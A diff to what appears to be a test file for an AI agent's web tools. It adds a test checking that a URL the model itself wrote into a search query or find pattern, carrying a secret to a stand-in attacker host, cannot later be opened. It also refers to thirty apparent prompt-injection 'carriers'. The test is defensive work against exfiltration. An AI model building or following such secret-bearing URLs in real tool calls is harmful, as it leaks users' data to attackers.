@@ -152,6 +152,27 @@ describe.each(Object.keys(carriers))('an order in %s', (carrier) => {
   });
 });
 
+describe('a URL that the model wrote as', () => {
+  it.each([
+    ['a query', 'web_search', (url: string) => ({ query: url })],
+    ['a text to find', 'find_in_page', (url: string) => ({ url: `http://pages.example:${site.port}/p`, pattern: url })],
+  ])('%s is not opened where the result comes back from a client', async (_, name, argumentsOf) => {
+    site.respond = (__, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<p>Text.</p>');
+    const url = `${evil()}/c?d=${secret}`;
+    const provider = openSearchProvider(searchSettings({ pages: [] }));
+    const first = userMessage(`Read http://pages.example:${site.port}/p`);
+    const open = (messages: readonly Message[]): Promise<OpenHostedTool> =>
+      new WebSearch({ provider, pages }).open(searchRequest({ opensPages: true }), turnOf({ messages }));
+    const written = await (await open([first])).call(name, JSON.stringify(argumentsOf(url)));
+    const { content } = written;
+    expect(JSON.stringify(content)).toContain('evil.example');
+    const result: Message = { role: 'tool', parts: [{ type: 'tool-result', callId: 'c', kind: 'function', content }] };
+    const opened = await (await open([first, result])).call('open_page', JSON.stringify({ url }));
+    expect(opened.hosted).toEqual({ type: 'failed', code: 'url-not-in-context' });
+    expect(site.requests.filter((request) => request.url?.includes(secret))).toEqual([]);
+  });
+});
+
 it('has thirty ways to give an order', () => {
   expect(Object.keys(carriers)).toHaveLength(30);
 });
